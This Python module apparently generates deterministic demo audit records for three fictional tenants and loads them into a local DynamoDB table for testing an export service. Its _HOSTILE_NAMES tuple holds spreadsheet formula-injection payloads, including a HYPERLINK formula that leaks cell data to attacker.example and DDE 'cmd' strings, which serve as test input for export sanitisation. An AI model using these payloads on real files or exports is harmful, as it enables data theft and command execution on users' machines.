"""Deterministic demo data: realistic audit records for several tenants across months.

    python -m devtools.generate --scale 10          # against the local stack's DynamoDB (see --help)

The same seed, tenant, count and window always give the same records, so tests can rebuild what was written.
"""

from __future__ import annotations

import argparse
import hashlib
import random
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from export_service.models.audit import NewAuditRecord

# tenant -> records at scale 1 (different sizes, so cross-tenant mistakes show up in counts)
DEMO_TENANTS: dict[str, int] = {"acme": 6000, "globex": 4000, "initech": 2500}
DEMO_DAYS = 180
DEFAULT_SEED = 20260301

_FIRST = ("ana", "bruno", "carlos", "diana", "emma", "farah", "george", "hana", "ivan", "julia", "kenji", "lena")
_LAST = ("silva", "smith", "mueller", "tanaka", "okafor", "rossi", "novak", "garcia", "kim", "berg", "dubois", "khan")
_ROLES = (("admin", 2), ("operator", 5), ("viewer", 4), ("auditor", 1))
_NAMESPACES = (("production", 55), ("staging", 25), ("development", 15), ("sandbox", 5))

# resourceType -> (actions with weights, resource name factory key)
_ACTIONS: dict[str, tuple[tuple[str, int], ...]] = {
    "Runbook": (("runbook.create", 3), ("runbook.update", 8), ("runbook.execute", 20), ("runbook.delete", 1)),
    "Incident": (
        ("incident.create", 6),
        ("incident.acknowledge", 6),
        ("incident.comment", 10),
        ("incident.resolve", 5),
        ("incident.reopen", 1),
    ),
    "User": (("user.login", 30), ("user.logout", 10), ("user.invite", 1), ("user.role_change", 1)),
    "ApiKey": (("apikey.create", 1), ("apikey.revoke", 1)),
    "Export": (("export.create", 3), ("export.download", 4)),
    "Policy": (("policy.update", 2), ("policy.create", 1)),
}
_TYPE_WEIGHTS = (("Runbook", 30), ("Incident", 30), ("User", 25), ("ApiKey", 2), ("Export", 8), ("Policy", 5))
_RUNBOOKS = (
    "runbook-disk-cleanup",
    "runbook-restart-api",
    "runbook-rotate-certs",
    "runbook-failover-db",
    "runbook-clear-cache",
    "runbook-scale-workers",
    "runbook-drain-node",
)
_POLICIES = ("policy-freshness-orders", "policy-volume-events", "policy-schema-users", "policy-nulls-payments")
# Names someone really typed into a form; a spreadsheet would run them as formulas unless neutralised.
_HOSTILE_NAMES = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"open report")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB-led runbook",
    'runbook "quoted", with comma\nand newline',
)


# The audit-event export's fields, derived from the record's kind so they read like a real platform's audit trail.
_EVENT_TYPES = {
    "Runbook": "runbook",
    "Incident": "incident",
    "User": "user",
    "ApiKey": "api_key",
    "Export": "export",
    "Policy": "assessment",
}
_SUB_TYPES = {
    "create": "created",
    "update": "updated",
    "execute": "executed",
    "delete": "deleted",
    "acknowledge": "acknowledged",
    "comment": "commented",
    "resolve": "resolved",
    "reopen": "reopened",
    "login": "logged_in",
    "logout": "logged_out",
    "invite": "invited",
    "role_change": "role_changed",
    "revoke": "revoked",
    "download": "downloaded",
}
_SOURCES = {
    "Runbook": "task_platform",
    "Incident": "incident_service",
    "User": "identity_service",
    "ApiKey": "identity_service",
    "Export": "export_service",
    "Policy": "assessment_service",
}
_TAGS = ("sev1", "customer-impact", "database", "network", "compliance", "on-call")
_WORKFLOW_STEPS = ("prepare", "approve", "execute", "verify", "rollback")
_ENTITY_NAMESPACE = uuid.UUID("6f1d1c2e-5b7a-4c1e-9a55-3e0d7c3b9a10")


@dataclass(frozen=True)
class _Person:
    email: str
    role: str
    ip: str


def _weighted(rng: random.Random, options: tuple[tuple[str, int], ...]) -> str:
    return rng.choices([name for name, _ in options], weights=[weight for _, weight in options])[0]


def _people(tenant: str, rng: random.Random) -> list[_Person]:
    people = []
    for index in range(12):
        first, last = _FIRST[index], _LAST[(index * 5 + len(tenant)) % len(_LAST)]
        people.append(
            _Person(
                email=f"{first}.{last}@{tenant}.example.com",
                role=_weighted(rng, _ROLES),
                ip=f"10.{len(tenant)}.{index}.{rng.randint(2, 250)}",
            )
        )
    people.append(_Person(email=f"svc-ci@{tenant}.example.com", role="operator", ip="10.200.0.10"))
    return people


def demo_users(tenant: str, seed: int = DEFAULT_SEED) -> list[str]:
    """The user emails the generator uses for a tenant (for examples and tests)."""
    return [person.email for person in _people(tenant, random.Random(f"{seed}:{tenant}"))]


def _resource(rng: random.Random, resource_type: str, person: _Person, moment: datetime) -> str:
    if rng.random() < 0.002:
        return rng.choice(_HOSTILE_NAMES)
    if resource_type == "Runbook":
        return rng.choice(_RUNBOOKS)
    if resource_type == "Incident":
        return f"INC-{moment:%Y%m%d}-{rng.randint(1, 40):03d}"
    if resource_type == "User":
        return person.email
    if resource_type == "ApiKey":
        return f"ak_{rng.getrandbits(64):016x}"
    if resource_type == "Export":
        return f"export-{moment:%Y%m%d}-{rng.randint(1, 99):03d}"
    return rng.choice(_POLICIES)


def _auditee(email: str) -> str:
    return "usr_" + hashlib.sha256(email.encode()).hexdigest()[:12]


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _metadata(rng: random.Random, resource_type: str, verb: str, resource: str, auditee: str) -> dict[str, str]:
    """The audit-event export's metadata keys, as the kind of event would carry them."""
    entity = str(uuid.uuid5(_ENTITY_NAMESPACE, resource))
    meta = {"entity_id": entity}
    if resource_type == "Runbook" and verb == "execute":
        meta["task_id"] = _uuid(rng)
        meta["workflow_instance_id"] = _uuid(rng)
        meta["workflow_step"] = rng.choice(_WORKFLOW_STEPS)
    elif resource_type == "Incident":
        meta["tag"] = rng.choice(_TAGS)
        if verb == "resolve":
            meta["match_id"] = _uuid(rng)
        elif verb == "comment" and rng.random() < 0.3:
            meta["inquiry_id"] = _uuid(rng)
    elif resource_type == "User":
        meta["entity_id"] = auditee
        if verb in ("invite", "role_change"):
            meta |= {"screening_application_id": _uuid(rng), "screening_config_id": "screening-default"}
    elif resource_type == "Policy":
        meta |= {"assessment_id": _uuid(rng), "screening_config_id": f"screening-{resource[7:]}"}
    elif resource_type == "Export":
        meta["cache_id"] = f"cache-{rng.getrandbits(32):08x}"
    return meta


def audit_records(
    tenant: str, count: int, start: datetime, end: datetime, seed: int = DEFAULT_SEED
) -> Iterator[NewAuditRecord]:
    """``count`` records in time order, spread over [start, end) (one per stratum, so exactly ``count``)."""
    rng = random.Random(f"{seed}:{tenant}")
    # The audit-event export's fields come from a stream of their own, so the runbook audit export's fields are what
    # they always were.
    rng_003 = random.Random(f"{seed}:{tenant}:003")
    people = _people(tenant, rng)
    span = (end - start).total_seconds()
    day_seq: dict[str, int] = {}
    for index in range(count):
        offset = (index + rng.random()) * span / count
        moment = start + timedelta(seconds=offset)
        moment = moment.replace(microsecond=(moment.microsecond // 1000) * 1000)
        day = f"{moment:%Y%m%d}"
        day_seq[day] = day_seq.get(day, 0) + 1
        person = rng.choice(people)
        resource_type = _weighted(rng, _TYPE_WEIGHTS)
        action = _weighted(rng, _ACTIONS[resource_type])
        resource = _resource(rng, resource_type, person, moment)
        verb = action.split(".", 1)[1]
        auditee = _auditee(person.email)
        yield NewAuditRecord(
            id=f"audit-{day}-{day_seq[day]:06d}",
            timestamp=moment,
            action=action,
            user=person.email,
            role=person.role,
            resource=resource,
            resourceType=resource_type,
            namespace=_weighted(rng, _NAMESPACES),
            sourceIP=person.ip if rng.random() > 0.03 else f"203.0.113.{rng.randint(1, 254)}",
            eventType=_EVENT_TYPES[resource_type],
            subType=_SUB_TYPES[verb],
            systemSource="ci_pipeline" if person.email.startswith("svc-ci@") else _SOURCES[resource_type],
            auditeeId=auditee,
            metadata=_metadata(rng_003, resource_type, verb, resource, auditee),
        )


def demo_window(today: datetime | None = None, days: int = DEMO_DAYS) -> tuple[datetime, datetime]:
    """The demo's window: the ``days`` full UTC days before today."""
    now = today or datetime.now(UTC)
    end = now.replace(hour=0, minute=0, second=0, microsecond=0)
    return end - timedelta(days=days), end


def main() -> None:
    import boto3  # noqa: PLC0415 - only the command needs it

    from export_service.dal.audit_store import AuditStore  # noqa: PLC0415
    from export_service.logic.audit_records import write_audit_records  # noqa: PLC0415

    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--endpoint", default="http://127.0.0.1:8000", help="DynamoDB endpoint (local stack default)")
    parser.add_argument("--table", default="AuditTable", help="audit table name")
    parser.add_argument("--scale", type=float, default=1.0, help="multiplies each tenant's record count")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--days", type=int, default=DEMO_DAYS)
    args = parser.parse_args()
    client = boto3.client("dynamodb", endpoint_url=args.endpoint, region_name="us-east-1")
    store = AuditStore(client, args.table)
    start, end = demo_window(days=args.days)
    for tenant, base in DEMO_TENANTS.items():
        written = write_audit_records(
            store, tenant, audit_records(tenant, int(base * args.scale), start, end, args.seed)
        )
        print(f"{tenant}: {written:,} audit records, {start:%Y-%m-%d} to {end:%Y-%m-%d}")


if __name__ == "__main__":
    main()
